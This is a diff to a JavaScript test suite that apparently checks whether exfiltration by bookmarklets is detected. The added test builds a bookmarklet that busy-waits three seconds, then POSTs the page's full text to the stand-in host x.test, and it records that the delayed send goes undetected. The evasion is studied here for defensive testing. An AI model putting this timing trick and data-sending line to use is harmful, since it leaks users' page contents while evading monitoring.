@@ -59,6 +59,12 @@ describe("a secret that is sent is detected", () => {
 		const told = seen(await runBookmarklet(browser, to(".then((r) => r.text()).then(alert)")));
 		expect(told).not.toContain("page>x.test");
 	});
+
+	it("but not when a bookmarklet computes for longer than a step of the visit, then sends it and shows the response", async () => {
+		const busy = "const end = performance.now() + 3000; while (performance.now() < end);";
+		const sent = `fetch("https://x.test/", { method: "POST", body: document.body.innerText }).then((r) => r.text()).then(alert)`;
+		expect(seen(await runBookmarklet(browser, `(() => { ${busy} ${sent} })()`))).not.toContain("page>x.test");
+	});
 });
 
 /** Ways to decode and run code from a response. */
